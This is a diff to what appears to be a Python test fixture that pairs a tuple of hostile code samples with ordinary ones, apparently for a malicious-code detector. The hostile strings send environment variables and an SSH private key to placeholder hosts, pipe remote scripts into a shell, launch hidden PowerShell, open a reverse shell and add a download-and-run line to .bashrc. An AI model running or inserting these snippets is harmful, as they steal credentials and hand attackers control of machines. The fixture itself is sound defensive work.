@@ -41,11 +41,15 @@ HOSTILE = (
     "import os, json, urllib.request\nurllib.request.urlopen('https://b.example.invalid/', json.dumps(dict(os.environ)).encode())\n",
     "import os\nos.system('curl -s https://c.example.invalid/i.sh | sh')\n",
     "import subprocess\nsubprocess.Popen('powershell -w hidden -enc ZQBjAGgAbwA=', shell=True)\n",
-    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('d.example.invalid', 4444))\nos.dup2(s.fileno(), 0)\n"
-    "os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
+    (
+        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('d.example.invalid', 4444))\nos.dup2(s.fileno(), 0)\n"
+        "os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
+    ),
     "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl https://e.example.invalid/x | sh\\n')\n",
-    "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-    "urllib.request.urlopen('https://f.example.invalid/', key.encode())\n",
+    (
+        "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "urllib.request.urlopen('https://f.example.invalid/', key.encode())\n"
+    ),
 )
 ORDINARY = (
     "import subprocess\n\n\ndef revision():\n    return subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n",
